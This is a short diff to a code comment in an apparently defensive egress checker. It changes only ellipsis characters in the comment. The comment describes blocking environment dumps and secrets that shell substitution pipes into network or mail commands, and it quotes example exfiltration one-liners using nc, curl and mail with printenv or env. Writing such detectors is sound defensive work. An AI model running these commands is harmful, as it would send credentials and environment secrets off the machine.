@@ -1,7 +1,7 @@
 /** Secret material fed to an egress command through substitution (round 18): the environment (`env`, `printenv`,
- * `export -p`, `/proc/…/environ`), a secret-named variable or a secret store read inside `$(…)`, backticks,
- * `<(…)` or a `<<<` here-string that is an argument, an input or the piped producer of a network or mail command
- * (`nc host 80 <<< "$(printenv)"`, `curl -T <(env) ftp://…`, `mail … <<< "$(env)"`). The substitution's output is the
+ * `export -p`, `/proc/.../environ`), a secret-named variable or a secret store read inside `$(...)`, backticks,
+ * `<(...)` or a `<<<` here-string that is an argument, an input or the piped producer of a network or mail command
+ * (`nc host 80 <<< "$(printenv)"`, `curl -T <(env) ftp://...`, `mail ... <<< "$(env)"`). The substitution's output is the
  * data that leaves, so credential material in it is blocked like any credential in egress (issue 12, item 2).
  * Commands that only reach this machine (`nc localhost 6379 <<< PING`) are left to the other checks. */
 
